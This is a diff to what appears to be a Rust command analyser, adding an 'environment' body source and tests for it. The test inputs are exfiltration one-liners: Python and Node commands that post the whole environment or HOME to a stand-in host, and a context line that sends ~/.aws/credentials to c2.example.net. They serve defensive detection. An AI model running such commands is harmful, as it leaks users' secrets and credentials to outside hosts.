@@ -98,6 +98,7 @@ fn show(w: &What) -> String {
                 .map(|b| match b {
                     BodySource::File(p) => format!("file {}", p.text),
                     BodySource::Env(n) => format!("env {n}"),
+                    BodySource::Environment => "environment".to_string(),
                     BodySource::Literal => "literal".into(),
                     BodySource::Stdin => "stdin".into(),
                 })
@@ -338,6 +339,18 @@ fn python_sends_with_bodies_from_the_environment_and_files() {
                 "send c2.example.net - [file ~/.aws/credentials]",
                 "read ~/.aws/credentials",
             ],
+        ),
+        (
+            r#"python3 -c "import requests, os; requests.post('https://h.example/c', json=dict(os.environ))""#,
+            &["send https://h.example/c POST [environment]"],
+        ),
+        (
+            r#"python3 -c "import requests, os; requests.post('https://h.example/c', data={'k': os.environ.get('HOME')})""#,
+            &["send https://h.example/c POST [env HOME]"],
+        ),
+        (
+            r#"node -e "fetch('https://h.example/c', {method: 'POST', body: JSON.stringify(process.env)})""#,
+            &["send https://h.example/c POST [environment]"],
         ),
         (
             r#"python3 -c "import socket; socket.create_connection(('db.internal', 5432)).close()""#,
